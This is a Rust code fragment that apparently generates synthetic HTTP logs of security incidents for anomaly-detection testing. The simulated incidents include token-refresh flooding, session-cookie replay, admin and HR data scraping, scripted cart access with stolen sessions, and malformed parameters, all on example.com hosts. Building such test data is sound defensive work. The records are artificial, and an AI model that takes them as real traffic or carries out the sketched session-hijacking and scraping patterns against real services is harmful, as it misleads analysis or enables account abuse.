            "api.example.com",
            "GET",
            format!("/v2/users/{uuid}/orders"),
            ip,
        )
        .ua(net::SCRIPTS[i % 5])
        .h("authorization", format!("Bearer {jwt}"))
        .q(format!("page={}&page_size=20", i % 5 + 1))
        .rjson(r#"{"code":0,"msg":"success","data":{"page":1,"page_size":20,"items":[]}}"#.into())
    });
    acm(
        ip,
        &name,
        "api.example.com",
        "GET",
        "/v2/users/{uuid}/orders",
    )
}

fn ev_high_frequency(c: &mut Ctx) -> Meta {
    let ip = attacker_cn(c);
    let n = c.rng.gen_range(3000..4500);
    let h = c.rng.gen_range(10.0..20.0);
    c.burst(h, 20.0, n, |c, _, t| {
        Rec::new(
            t,
            "passport.example.com",
            "POST",
            "/api/v1/token/refresh".into(),
            ip,
        )
        .ua(net::APPS[2])
        .json(format!(
            r#"{{"refresh_token":"{}"}}"#,
            values::hex(&mut c.rng, 32)
        ))
        .st(401)
        .rjson(r#"{"code":4011,"msg":"refresh token invalid"}"#.into())
    });
    ipm(ip, "passport.example.com", "POST", "/api/v1/token/refresh")
}

/// A server outside the office networks (a container network in 172.16/12) replays an
/// employee's OA session: an internal address, so the location is usual, but not the address.
fn ev_internal_unusual_ip(c: &mut Ctx) -> Meta {
    let ip = Ipv4Addr::new(
        172,
        c.rng.gen_range(16..32),
        c.rng.gen_range(0..=255),
        c.rng.gen_range(2..250),
    );
    let e = &c.w.employees[3];
    let (session, name) = (e.session.clone(), e.username.clone());
    let n = c.rng.gen_range(30..60);
    let h = c.rng.gen_range(10.0..17.0);
    c.burst(h, 60.0, n, |_, _, t| {
        Rec::new(t, "oa.example.com", "GET", "/approval/tasks".into(), ip)
            .ua(ATTACK_BROWSER)
            .h("cookie", format!("JSESSIONID={session}"))
            .acct(&name)
            .q("status=pending&page=1".into())
            .rjson(r#"{"code":0,"msg":"success","data":{"tasks":[]}}"#.into())
    });
    ipm(ip, "oa.example.com", "GET", "/approval/tasks")
}

fn ev_internal_unusual_location(c: &mut Ctx) -> Meta {
    let ip = net::ip_in(&mut c.rng, net::JP);
    let a = &c.w.admins[5];
    let (session, name) = (a.session.clone(), a.username.clone());
    let n = c.rng.gen_range(50..90);
    let h = c.rng.gen_range(10.0..17.0);
    c.burst(h, 40.0, n, |c, i, t| {
        let mut o = Obj::new();
        o.n("code", 0).open("data").open_arr("records");
        for k in 0..20 {
            let u = &c.w.users[(i * 20 + k) % c.w.users.len()];
            o.elem_obj()
                .n("id", u.id as i64)
                .s("username", &u.username)
                .s("mobile", &mask_mobile(&u.person.mobile))
                .close();
        }
        o.close_arr();
        Rec::new(t, "admin.example.com", "GET", "/admin/api/users".into(), ip)
            .ua(net::BROWSERS[2])
            .h("cookie", format!("ADMIN_SESSION={session}"))
            .acct(&name)
            .q(format!("page={}&size=20", i + 1))
            .rjson(o.finish())
    });
    ipm(ip, "admin.example.com", "GET", "/admin/api/users")
}

fn ev_anomalous_tool(c: &mut Ctx) -> Meta {
    let ip = attacker_cn(c);
    let n = c.rng.gen_range(250..400);
    let h = c.rng.gen_range(10.0..20.0);
    let sessions: Vec<(String, String)> = (0..20)
        .map(|k| {
            let u = &c.w.users[(k * 11) % c.w.users.len()];
            (u.session.clone(), u.username.clone())
        })
        .collect();
    c.burst(h, 30.0, n, |_, i, t| {
        let (s, name) = &sessions[i % sessions.len()];
        Rec::new(t, "shop.example.com", "GET", "/api/cart".into(), ip)
            .ua("python-requests/2.31.0")
            .h("cookie", format!("SESSIONID={s}"))
            .acct(name)
            .rjson(r#"{"code":0,"msg":"success","data":{"items":[]}}"#.into())
    });
    ipm(ip, "shop.example.com", "GET", "/api/cart")
}

fn ev_unusual_time(c: &mut Ctx) -> Meta {
    let e = &c.w.employees[7];
    let (ip, session, ua, name) = (e.ip, e.session.clone(), e.ua, e.username.clone());
    let n = c.rng.gen_range(60..100);
    c.burst(3.1, 35.0, n, |c, _, t| {
        let x = &c.w.employees[c.rng.gen_range(0..c.w.employees.len())];
        Rec::new(t, "oa.example.com", "GET", format!("/hr/employees/{}", x.emp_no), ip)
            .ua(ua)
            .h("cookie", format!("JSESSIONID={session}"))
            .acct(&name)
            .rjson(format!(r#"{{"code":0,"msg":"success","data":{{"emp_no":"{}","name":"{}","dept":"{}","mobile":"{}"}}}}"#, x.emp_no, x.person.name, x.dept, x.person.mobile))
    });
    ipm(ip, "oa.example.com", "GET", "/hr/employees/{emp_no}")
}

fn ev_abnormal_params(c: &mut Ctx) -> Meta {
    let ip = attacker_cn(c);
    let n = c.rng.gen_range(100..160);
    let h = c.rng.gen_range(10.0..20.0);
    c.burst(h, 20.0, n, |c, _, t| {
        let len = c.rng.gen_range(40..200);
        Rec::new(t, "shop.example.com", "GET", "/api/products".into(), ip)
            .ua(net::BROWSERS[4])
            .q(format!(
                "category_id={}&page=1&page_size=20&sort=sales",
                values::alnum(&mut c.rng, len)
            ))
            .rjson(r#"{"code":0,"msg":"success","data":{"total":0,"page":1,"list":[]}}"#.into())
    });
    ipm(ip, "shop.example.com", "GET", "/api/products")
}

/// Seeds an incident's own generator so incidents do not depend on the normal traffic volume.
pub fn incident_rng(seed: u64, day: u32, idx: u64) -> ChaCha8Rng {
    ChaCha8Rng::seed_from_u64(
        seed ^ 0x5eed_1dc1_u64
            .wrapping_mul(day as u64 + 1)
            .wrapping_add(idx.wrapping_mul(0x9e37_79b9_7f4a_7c15)),
    )
}
